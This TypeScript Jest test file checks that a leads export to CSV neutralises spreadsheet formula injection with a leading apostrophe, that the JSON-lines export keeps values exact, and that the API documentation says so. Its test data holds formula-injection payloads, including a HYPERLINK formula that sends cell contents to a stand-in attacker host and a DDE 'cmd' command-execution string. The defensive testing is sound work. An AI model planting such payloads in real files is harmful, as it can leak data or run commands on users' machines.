/**
 * Line 16: no cell of an export is a formula, whatever its value begins with. The document says so, and JSON lines are exact.
 */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import type { Body } from '../../support/client.ts';
import { least, startVendors, type Vendors } from '../../support/vendors.ts';

const hostile = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1',
  '=","=1+1',
  "'=1+1",
  ' =1+1',
];

let v: Vendors;
const sent: Body[] = [];
beforeAll(async () => {
  v = await startVendors();
  for (const [i, text] of hostile.entries()) {
    // External ids cannot contain control characters, and names cannot contain line breaks.
    const external_id = /[\t\r\n]/.test(text) ? `x-${i}` : text;
    const name = /[\r\n]/.test(text) ? least.name : text;
    const lead = await v.xyz.lead(
      { ...least, name: name.trim(), notes: text.trim(), phone: '+4520123456', roof_area: 12.5 },
      { external_id: `x-${i}` },
    );
    // Values are trimmed today, but were not always.
    await sql`update leads set external_id = ${external_id}, values = values || ${JSON.stringify({ name, notes: text })}::jsonb
      where id = ${lead.id}`.execute(v.db);
    sent.push((await v.xyz.get(`/leads/${lead.id}`)).body);
  }
});
afterAll(() => v.stop());

const neutral = (text: string) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text);

test('a text that begins like a formula has an apostrophe in front, and every other is as it was sent', async () => {
  const { text } = await v.xyz.get('/leads/export', {}, { accept: 'text/csv' });
  const rows = (
    parse(text, { columns: true, record_delimiter: '\r\n' }) as unknown as Record<string, string>[]
  ).reverse();
  expect(rows.length).toBe(hostile.length);
  for (const [i, row] of rows.entries()) {
    const lead = sent[i];
    expect(row).toMatchObject({
      external_id: neutral(String(lead?.external_id)),
      name: neutral(String(lead?.fields.name)),
      notes: neutral(hostile[i] ?? ''),
      phone: "'+4520123456",
      roof_area: '12.5',
    });
    // For a spreadsheet that splits at commas or semicolons, no cell begins like a formula.
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  }
});

test('JSON lines have the values as they are', async () => {
  const { text } = await v.xyz.get('/leads/export', {}, { accept: 'application/x-ndjson' });
  const leads = text
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Body);
  expect(leads.reverse()).toEqual(sent);
});

test('the document says what is done, of phone numbers too', async () => {
  const response = await fetch(`${v.server.url}/docs/${v.tokens.xyz.docsId}/openapi.json`);
  const document = (await response.json()) as { paths: Record<string, { get: { description: string } }> };
  const { description } = document.paths['/leads/export']?.get ?? { description: '' };
  expect(description).toMatch(/apostrophe/);
  for (const sign of ['`=`', '`+`', '`-`', '`@`', 'tab', "`'+4520123456`"]) expect(description).toContain(sign);
});
